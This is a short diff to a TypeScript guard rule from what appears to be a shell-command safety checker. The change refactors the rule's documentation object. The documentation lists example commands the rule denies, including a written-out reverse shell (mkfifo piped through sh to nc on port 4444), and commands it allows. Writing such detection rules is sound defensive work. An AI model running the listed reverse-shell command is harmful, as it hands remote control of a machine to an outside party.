@@ -1,4 +1,4 @@
-import { defineDocs, defineGuard } from '../../core/define.ts'
+import { defineGuard, type RuleDocs } from '../../core/define.ts'
 import type { Invocation } from '../../core/script.ts'
 import { command } from '../../shell/command.ts'
 import { isCall, names } from '../../shell/match.ts'
@@ -56,7 +56,7 @@ const isSocketCode = ({ name, argv }: Invocation): boolean => {
   )
 }
 
-export const docs = defineDocs({
+export const docs: RuleDocs = {
   since: '0.2.0',
   why: 'A shell behind a socket is remote control. There is no other use for it.',
   denies: [
@@ -66,4 +66,4 @@ export const docs = defineDocs({
     'mkfifo /tmp/p; sh < /tmp/p | nc 198.51.100.7 4444 > /tmp/p',
   ],
   allows: ['nc -z localhost 5432', 'socat - TCP:localhost:6379', 'echo "nc -e /bin/sh 198.51.100.7 4444"'],
-})
+}
